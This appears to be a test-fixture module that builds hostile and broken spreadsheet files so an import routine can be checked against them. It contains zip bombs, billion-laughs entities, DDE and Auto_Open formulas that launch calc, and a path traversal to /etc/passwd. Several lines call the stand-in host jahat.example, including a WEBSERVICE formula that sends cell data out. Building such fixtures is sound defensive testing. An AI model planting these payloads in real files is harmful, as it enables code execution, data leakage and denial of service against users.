import { crc32, deflateRawSync } from 'node:zlib'
import { write, utils } from '@e965/xlsx'
import { biffOf, compoundOf } from '../build-workbooks.ts'
import {
  bookOf,
  bookWith,
  budi,
  csvOf,
  documents,
  heads,
  inlineCell,
  list,
  main,
  plainSheet,
  rowsXml,
  sheetPath,
  worksheet,
} from './parts.ts'
import type { Hostile } from './refused-files.ts'

const two = 'reads 2'
const rowOf = (cells: string, number = 4) => `<row r="${number}">${cells}</row>`
const withRow = (cells: string, number?: number) => bookOf(worksheet(rowsXml(list) + rowOf(cells, number)))
const rels = (more: string) => (text: string) => text.replace('</Relationships>', `${more}</Relationships>`)
const repeated = (count: number, of: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => of(index)).join('')

/** Old workbook of the general writer, so that it can be broken. */
const oldBook = (() => {
  const book = utils.book_new()
  utils.book_append_sheet(book, utils.aoa_to_sheet(list.map((row) => [...row])), 'DATA')
  return Buffer.from(write(book, { type: 'buffer', bookType: 'biff8' }) as Uint8Array)
})()

/** Several entries of the directory share one compressed kernel: a bomb that no entry shows. */
function overlapping(count: number): Buffer {
  const data = Buffer.alloc(9 * 1024 * 1024, 0x20)
  const packed = deflateRawSync(data)
  const facts = (name: Buffer) => {
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc32(data), 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(data.length, 18)
    common.writeUInt16LE(name.length, 22)
    return common
  }
  const first = Buffer.from('p0')
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts(first), first, packed])
  const directory = Buffer.concat(
    Array.from({ length: count }, (_, index) => {
      const name = Buffer.from(`p${index % 10}`)
      return Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), facts(name), Buffer.alloc(14), name])
    }),
  )
  const end = Buffer.alloc(18)
  end.writeUInt16LE(count, 4)
  end.writeUInt16LE(count, 6)
  end.writeUInt32LE(directory.length, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([local, directory, Buffer.from('PK\x05\x06', 'latin1'), end])
}

const spreadsheetMl = (head: string, body = '') =>
  Buffer.from(
    `<?xml version="1.0"?>${head}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">${body}</Workbook>`,
  )

const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${repeated(9, (index) => `<!ENTITY a${index} "${`&a${index - 1 < 0 ? '' : index - 1};`.repeat(10)}">`)}]>`

/** What attacks through a part of the workbook that a list does not need: read for its people, the rest never looked at. */
const harmless: readonly Hostile[] = [
  [
    'a hundred thousand checks of entries',
    'a.xlsx',
    bookOf(
      worksheet(
        rowsXml(list),
        `<dataValidations count="100000">${repeated(100_000, (index) => `<dataValidation type="list" sqref="C${index + 2}"><formula1>[1]Evil!$A$1:$A$1048576</formula1></dataValidation>`)}</dataValidations>`,
      ),
    ),
    two,
  ],
  [
    'a check of entries that starts a program',
    'a.xlsx',
    bookOf(
      worksheet(
        rowsXml(list),
        `<dataValidations count="1"><dataValidation type="custom" sqref="A1:XFD1048576"><formula1>cmd|'/C calc'!A0</formula1></dataValidation></dataValidations>`,
      ),
    ),
    two,
  ],
  [
    'defined names that refer to each other',
    'a.xlsx',
    bookWith({
      'xl/workbook.xml': (text) =>
        text.replace(
          '</workbook>',
          `<definedNames>${repeated(20_000, (index) => `<definedName name="n${index}">n${(index + 1) % 20_000}+n${(index + 2) % 20_000}</definedName>`)}</definedNames></workbook>`,
        ),
    }),
    two,
  ],
  [
    'a name that starts a program',
    'a.xlsx',
    bookWith({
      'xl/workbook.xml': (text) =>
        text.replace(
          '</workbook>',
          `<definedNames><definedName name="_xlnm.Auto_Open" function="1" vbProcedure="1">EXEC("calc.exe")</definedName></definedNames></workbook>`,
        ),
    }),
    two,
  ],
  [
    'links to pages and shares',
    'a.xlsx',
    bookWith({
      [sheetPath]: worksheet(rowsXml(list), '<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks>'),
      'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${documents}/hyperlink" Target="file://///jahat.example/share/x" TargetMode="External"/></Relationships>`,
    }),
    two,
  ],
  [
    'a query that would fetch from the net',
    'a.xlsx',
    bookWith({
      'xl/connections.xml': `<connections xmlns="${main}"><connection id="1" name="x" type="4"><webPr url="http://jahat.example/x"/></connection></connections>`,
    }),
    two,
  ],
  [
    'an object in it that runs',
    'a.xlsx',
    bookWith({ 'xl/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
    two,
  ],
  ['a zip in the zip', 'a.xlsx', bookWith({ 'xl/media/image1.png': overlapping(10) }), two],
  [
    'a template from the net',
    'a.xlsx',
    bookWith({
      'xl/_rels/workbook.xml.rels': rels(
        `<Relationship Id="rId9" Type="${documents}/attachedTemplate" Target="http://jahat.example/x.xltm" TargetMode="External"/>`,
      ),
    }),
    two,
  ],
  [
    'a formula that calls a service',
    'a.xlsx',
    withRow(`<c r="D4" t="str"><f>WEBSERVICE("http://jahat.example/"&amp;A2)</f><v></v></c>`),
    two,
  ],
  [
    'cyclic formulas',
    'a.xlsx',
    withRow(`<c r="E4"><f>F4+1</f><v>0</v></c><c r="F4"><f>E4+1</f><v>0</v></c>`),
    two,
  ],
  [
    'a style that there is not',
    'a.xlsx',
    bookOf(worksheet(rowsXml(list).replace('<c r="A2"', '<c r="A2" s="99999"'))),
    two,
  ],
  [
    'a merge over the whole sheet',
    'a.xlsx',
    bookOf(worksheet(rowsXml(list), '<mergeCells><mergeCell ref="H1:XFD1048576"/></mergeCells>')),
    two,
  ],
  [
    'merges by the ten thousand',
    'a.xlsx',
    bookOf(
      worksheet(
        rowsXml(list),
        `<mergeCells>${repeated(30_000, (index) => `<mergeCell ref="A${index + 9}:C1048576"/>`)}</mergeCells>`,
      ),
    ),
    two,
  ],
  [
    'a dimension that says a million rows',
    'a.xlsx',
    bookOf(worksheet(rowsXml(list), '', '<dimension ref="A1:XFD1048576"/>')),
    two,
  ],
  [
    'columns by the million',
    'a.xlsx',
    bookOf(
      worksheet(
        rowsXml(list),
        '',
        `<cols>${repeated(200_000, (index) => `<col min="${index}" max="16384" width="9"/>`)}</cols>`,
      ),
    ),
    two,
  ],
  [
    'a date of no calendar',
    'a.xlsx',
    withRow('<c r="H4"><v>1e300</v></c><c r="I4"><v>-99999</v></c><c r="J4"><v>1e999</v></c>'),
    two,
  ],
  [
    'HTML with a script',
    'a.xls',
    Buffer.from(
      `<html><script>fetch('http://jahat.example')</script><table>${list.map((row) => `<tr>${row.map((text) => `<td>${text}</td>`).join('')}</tr>`).join('')}</table></html>`,
    ),
    two,
  ],
]

/** What is broken in a way that would cost a row or a cell without a word. */
const broken: readonly Hostile[] = [
  [
    'a text that the list of texts lacks',
    'a.xlsx',
    withRow('<c r="A4" t="s"><v>99999</v></c>'),
    'import.file.damaged',
  ],
  [
    'two cells at one address',
    'a.xlsx',
    bookOf(worksheet(rowsXml(list) + rowsXml([Object.values({ ...budi, name: 'Orang Lain' })], 2))),
    'import.file.damaged',
  ],
  [
    'two sheets of one name',
    'a.xlsx',
    bookWith({
      'xl/workbook.xml': (text) =>
        text.replace('</sheets>', '<sheet name="DATA" sheetId="2" r:id="rId1"/></sheets>'),
    }),
    'import.file.damaged',
  ],
  ['a sheet that is not there', 'a.xlsx', bookWith({ [sheetPath]: () => undefined }), 'import.file.damaged'],
  [
    'a sheet outside the workbook',
    'a.xlsx',
    bookWith({
      'xl/_rels/workbook.xml.rels': (text) => text.replace('worksheets/sheet1.xml', '../../../../etc/passwd'),
    }),
    'import.file.damaged',
  ],
  [
    'a relation that is not there',
    'a.xlsx',
    bookWith({ 'xl/_rels/workbook.xml.rels': () => '<Relationships/>' }),
    two,
  ],
  [
    'no parts list',
    'a.xlsx',
    bookWith({ '[Content_Types].xml': () => undefined }),
    'import.file.notWorkbook',
  ],
  [
    'the parts list of a document',
    'a.xlsx',
    bookWith({ '[Content_Types].xml': (text) => text.replaceAll('spreadsheetml', 'wordprocessingml') }),
    'import.file.notWorkbook',
  ],
  [
    'a sheet cut in the middle of a row',
    'a.xlsx',
    bookOf(plainSheet.slice(0, plainSheet.indexOf('Siti'))),
    'import.file.damaged',
  ],
  ['a sheet of noughts', 'a.xlsx', bookOf(Buffer.alloc(2000)), 'import.table.empty'],
  ['a part with a wrong sum', 'a.xlsx', bookWith({}, { crc: 1 }), 'import.file.damaged'],
  ['a packing that nobody has', 'a.xlsx', bookWith({}, { method: 12 }), 'import.file.damaged'],
  ['parts that share their bytes', 'a.xlsx', overlapping(10), 'import.file.bomb'],
  ['more entries than it says', 'a.xlsx', overlapping(3000), 'import.file.bomb'],
  ['a name of another drive', 'a.xlsx', bookWith({ 'C:\\Windows\\x.xml': 'x' }), 'import.file.unsafe'],
  [
    'a name that climbs by backslashes',
    'a.xlsx',
    bookWith({ 'xl\\..\\..\\x.xml': 'x' }),
    'import.file.unsafe',
  ],
  ['a row before the first', 'a.xlsx', withRow('<c r="A0" t="str"><v>x</v></c>', 0), 'import.file.damaged'],
  [
    'an address of the corner XFD1048576',
    'a.xlsx',
    bookOf(worksheet(`${rowsXml(list)}<row r="1048576">${inlineCell('x', 'XFD1048576')}</row>`)),
    'import.file.tooWide',
  ],
  ['an address beyond every column', 'a.xlsx', withRow(inlineCell('x', 'ZZZZZ4')), 'import.file.tooWide'],
  ['laughs by the thousand million in Excel 2003', 'a.xls', spreadsheetMl(laughs), 'import.file.damaged'],
  [
    'a DOCTYPE in OpenDocument',
    'a.ods',
    bookWith({
      mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
      'content.xml': `${laughs}<office:document-content/>`,
    }),
    'import.file.doctype',
  ],
  [
    'a DDE link',
    'a.xlsx',
    bookWith({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    }),
    'import.file.externalLinks',
  ],
  [
    'a CSV with noughts in it',
    'a.csv',
    Buffer.from(csvOf(list).replace('Budi', 'Bu\0di')),
    'import.file.notWorkbook',
  ],
  ['UTF-16 that does not say so', 'a.csv', Buffer.from(csvOf(list), 'utf16le'), 'import.file.notWorkbook'],
  [
    'UTF-16 with half a letter',
    'a.csv',
    Buffer.concat([
      Buffer.from('fffe', 'hex'),
      Buffer.from(csvOf(list), 'utf16le'),
      Buffer.from('d8', 'hex'),
    ]),
    'import.file.encoding',
  ],
  [
    'a CSV of a million rows',
    'a.csv',
    Buffer.from(`${csvOf([heads])}${'1;2;3\n'.repeat(1_000_000)}`),
    'import.file.tooWide',
  ],
  [
    'a CSV of a million columns',
    'a.csv',
    Buffer.from(`NIP;NAMA${';x'.repeat(1_000_000)}\n`),
    'import.file.tooWide',
  ],
  [
    'a picture called .csv',
    'a.csv',
    Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
    'import.file.notWorkbook',
  ],
  ['a PDF called .xls', 'a.xls', Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'), 'import.file.notWorkbook'],
  ['an old workbook cut in the middle', 'a.xls', oldBook.subarray(0, 1536), 'import.file.damaged'],
  ['an old workbook whose chain of sectors is a ring', 'a.xls', ring(), 'import.file.damaged'],
  [
    'an old workbook whose texts are said to be four thousand million',
    'a.xls',
    compoundOf({
      Workbook: biffOf([
        [0x809, [0, 6, 5, 0, 0, 0, 0, 0]],
        [0xfc, [255, 255, 255, 255, 255, 255, 255, 255, 255, 255, 0]],
        [0x0a, []],
      ]),
    }),
    'import.table.empty',
  ],
  [
    'an OpenDocument without its content',
    'a.ods',
    bookWith({
      mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
      '[Content_Types].xml': () => undefined,
    }),
    two,
  ],
  ['Excel 2003 without a sheet', 'a.xls', spreadsheetMl(''), 'import.table.empty'],
  [
    'tables in tables in tables',
    'a.xls',
    Buffer.from(`<html>${'<table><tr><td>'.repeat(50_000)}x`),
    'import.file.tooManySheets',
  ],
]

/** The first sectors of the file point at each other. */
function ring(): Buffer {
  const bytes = Buffer.from(oldBook)
  const fat = 512 * (bytes.readUInt32LE(0x4c) + 1)
  for (let entry = 0; entry < 128; entry++) {
    const next = bytes.readUInt32LE(fat + entry * 4)
    if (next < 0xfffffff0) bytes.writeUInt32LE(entry, fat + entry * 4)
  }
  return bytes
}

export const strangeFiles: readonly Hostile[] = [...harmless, ...broken]
